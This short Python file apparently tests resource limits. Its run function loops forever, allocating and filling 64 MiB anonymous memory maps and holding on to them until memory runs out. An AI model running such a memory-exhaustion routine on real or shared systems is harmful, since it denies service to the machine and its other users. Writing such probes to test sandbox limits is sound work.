import mmap


def run(x):
    hoard = []
    while True:
        block = mmap.mmap(-1, 64 << 20)
        block[:] = b"x" * len(block)
        hoard.append(block)
